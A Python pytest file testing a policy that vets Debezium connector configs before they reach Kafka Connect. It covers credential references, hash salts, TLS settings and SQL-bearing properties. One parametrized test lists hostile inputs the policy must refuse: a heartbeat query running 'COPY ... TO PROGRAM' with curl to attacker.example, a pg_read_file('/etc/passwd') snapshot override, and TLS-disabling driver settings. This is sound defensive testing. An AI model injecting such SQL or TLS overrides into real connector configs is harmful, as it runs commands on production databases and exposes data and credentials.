"""The policy every connector config passes before it reaches Connect, with its messages in full (found by make
mutate: prefixes of messages let details drift)."""

import re

import pytest

from tests.runtime_code.lambda_modules import load

declared = load("declared")
KEY = "column.mask.hash.v2.SHA-256.with.salt."
ARN = "arn:aws:secretsmanager:eu-west-2:333333333333:secret:salt-AbCdEf"
SALT = "Q7mZp2Lk9vX4nB8s"


def test_a_connector_reads_only_its_own_credentials_and_every_other_reference_is_named():
    config = {"database.user": "${env:DBZ_ORDERS_CDC_USER}", "database.password": "${env:DBZ_ACCOUNTS_CDC_PASSWORD}",
              "a.key": "${file:/etc/secrets.properties:key}", "b.key": "x ${env:AWS_SECRET_ACCESS_KEY} y",
              "c.key": "${secretsmanager:arn:aws:x}"}
    own = "(${env:DBZ_ORDERS_CDC_USER} or ${env:DBZ_ORDERS_CDC_PASSWORD})"
    assert declared.credential_problems("orders-cdc", config) == [
        f"a.key refers to ${{file:/etc/secrets.properties}}, which is not connector orders-cdc's own {own}",
        f"b.key refers to ${{env:AWS_SECRET_ACCESS_KEY}}, which is not connector orders-cdc's own {own}",
        f"c.key refers to ${{secretsmanager:arn}}, which is not connector orders-cdc's own {own}",
        f"database.password refers to ${{env:DBZ_ACCOUNTS_CDC_PASSWORD}}, which is not connector orders-cdc's own "
        f"{own}",
    ]
    assert declared.credential_problems("product-a.b", {"u": "${env:DBZ_PRODUCT_A_B_USER}",
                                                        "p": "${env:DBZ_PRODUCT_A_B_PASSWORD}"}) == []


@pytest.mark.parametrize("name, variable", [
    ("orders", "DBZ_ORDERS_CDC_PASSWORD"),   # connector orders-cdc's, which only starts like orders' own
    ("orders", "DBZ_ORDERS_"),
    ("orders", "DBZ_ORDERS_USERX"),
    ("orders-cdc", "DBZ_ORDERS_PASSWORD"),
    ("orders-cdc", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"),
])
def test_only_the_connectors_two_variables_are_its_own(name, variable):
    assert declared.credential_problems(name, {"database.password": "${env:" + variable + "}"}) != []


def test_resolved_turns_every_value_into_text_and_joins_every_problem():
    assert declared.resolved("a", {"tasks.max": 1, "x": True}, None) == {"tasks.max": "1", "x": "True"}
    with pytest.raises(declared.PolicyError) as raised:
        declared.resolved("a", {"p": "${env:X}", "q": "${env:Y}"}, None)
    assert str(raised.value) == (
        "p refers to ${env:X}, which is not connector a's own (${env:DBZ_A_USER} or ${env:DBZ_A_PASSWORD}); "
        "q refers to ${env:Y}, which is not connector a's own (${env:DBZ_A_USER} or ${env:DBZ_A_PASSWORD})")
    salted = declared.resolved("a", {KEY + "{salt}": "public.t.c"}, ARN, read=lambda arn: SALT)
    assert salted == {KEY + SALT: "public.t.c"}


def test_the_salt_messages_in_full():
    with pytest.raises(declared.PolicyError) as raised:
        declared.with_salt({"x{salt}": "1", KEY + "{salt}": "2", "y.{salt}.z": "3"}, ARN, read=lambda _: SALT)
    assert str(raised.value) == ("x{salt}, y.{salt}.z: the salt placeholder {salt} belongs only at the end of "
                                 "column.mask.hash.<version>.<algorithm>.with.salt.")
    with pytest.raises(declared.PolicyError) as raised:
        declared.with_salt({KEY + "{salt}": "2"}, "not-an-arn", read=lambda _: SALT)
    assert str(raised.value) == (f"{KEY}{{salt}} needs its salt, and HashSaltSecretArn names no secret "
                                 "('not-an-arn')")
    with pytest.raises(declared.PolicyError) as raised:
        declared.with_salt({KEY + "{salt}": "2"}, ARN, read=lambda _: "short")
    assert str(raised.value) == f"the salt in {ARN} is not 16-128 letters and digits; put such a value there"


@pytest.mark.parametrize("salt, ok", [("a" * 15, False), ("a" * 16, True), ("A1" * 64, True), ("a" * 129, False)])
def test_a_salt_is_16_to_128_letters_and_digits(salt, ok):
    if ok:
        assert declared.with_salt({KEY + "{salt}": "x"}, ARN, read=lambda _: salt) == {KEY + salt: "x"}
    else:
        with pytest.raises(declared.PolicyError):
            declared.with_salt({KEY + "{salt}": "x"}, ARN, read=lambda _: salt)


@pytest.mark.parametrize("key", [KEY + "{salt}", "column.mask.hash.SHA-256.with.salt.{salt}",
                                 "column.mask.hash.v2.SHA-256.with.salt.{salt}"])
def test_the_placeholder_is_accepted_in_every_hashing_property_debezium_reads(key):
    assert declared.with_salt({key: "x", "other": "y"}, ARN, read=lambda _: SALT) == {
        key.replace("{salt}", SALT): "x", "other": "y"}


def test_without_a_reader_the_salt_is_read_from_secrets_manager(monkeypatch):
    monkeypatch.setattr(declared, "secret_string", lambda arn: SALT if arn == ARN else "")
    assert declared.with_salt({KEY + "{salt}": "x"}, ARN) == {KEY + SALT: "x"}


def test_differs_ignores_the_name_and_compares_as_text():
    assert declared.differs({"name": "a", "tasks.max": 1}, {"tasks.max": "1", "name": "b"}) is False
    assert declared.differs({"tasks.max": 1}, {"tasks.max": "1", "extra": "x"}) is True
    assert declared.differs({"tasks.max": 1, "extra": "x"}, {"tasks.max": "1"}) is True


class Ssm:
    class exceptions:  # noqa: N801 - boto3's shape
        class ParameterNotFound(Exception):
            pass

    def __init__(self):
        self.calls = []

    def put_parameter(self, **request):
        self.calls.append(("put", request))

    def delete_parameter(self, Name):  # noqa: N803
        self.calls.append(("delete", Name))
        raise self.exceptions.ParameterNotFound()

    def get_paginator(self, operation):
        calls = self.calls

        class Paginator:
            def paginate(self, **request):
                calls.append((operation, request))
                yield {"Parameters": [{"Name": "/p/declared/a", "Value": '{"state":"running"}'}]}
                yield {"Parameters": [{"Name": "/p/declared/b", "Value": "{}"}]}
        return Paginator()


OWN = {"database.user": "${env:DBZ_ACCOUNTS_CDC_USER}", "database.password": "${env:DBZ_ACCOUNTS_CDC_PASSWORD}",
       "database.sslmode": "verify-full", "database.sslrootcert": "/opt/connect/certs/rds-global-bundle.pem"}
HEARTBEAT = "INSERT INTO debezium_heartbeat (id, seen_at) VALUES (1, now()) ON CONFLICT (id) DO UPDATE SET seen_at = now()"


def test_the_platforms_own_config_passes_the_policy():
    assert declared.config_problems("accounts-cdc", {**OWN, "heartbeat.action.query": HEARTBEAT}) == []
    assert declared.config_problems("accounts-cdc", {**OWN, "heartbeat.action.query": HEARTBEAT.replace(
        "debezium_heartbeat", "public.debezium_heartbeat")}) == []


@pytest.mark.parametrize("key, value, problem", [
    ("database.sslfactory", "org.postgresql.ssl.NonValidatingFactory",
     "database.sslfactory overrides the database connection's TLS or driver; no connector config may"),
    ("driver.sslmode", "disable", "driver.sslmode overrides the database connection's TLS or driver; no connector "
                                  "config may"),
    ("heartbeat.action.query", "COPY accounts TO PROGRAM 'curl attacker.example'",
     "heartbeat.action.query is not the platform's heartbeat upsert; no other SQL runs on a database"),
    ("snapshot.select.statement.overrides.public.accounts", "SELECT pg_read_file('/etc/passwd')",
     "snapshot.select.statement.overrides.public.accounts would run SQL (or load code) on the database; no "
     "connector config may"),
])
def test_a_config_that_weakens_tls_or_runs_sql_is_refused_wherever_it_comes_from(key, value, problem):
    """Security review: an invoker could set heartbeat.action.query (run every 10 s on a production database) or a
    non-validating SSL factory (hand the credentials to another host) although the template said verify-full."""
    assert declared.config_problems("accounts-cdc", {**OWN, key: value}) == [problem]
    with pytest.raises(declared.PolicyError, match=re.escape(problem)):
        declared.resolved("accounts-cdc", {**OWN, key: value}, None)


def test_verifying_tls_without_a_ca_bundle_is_refused():
    config = {k: v for k, v in OWN.items() if k != "database.sslrootcert"}
    assert declared.config_problems("accounts-cdc", config) == [
        "database.sslmode verifies the server but database.sslrootcert names no CA bundle"]
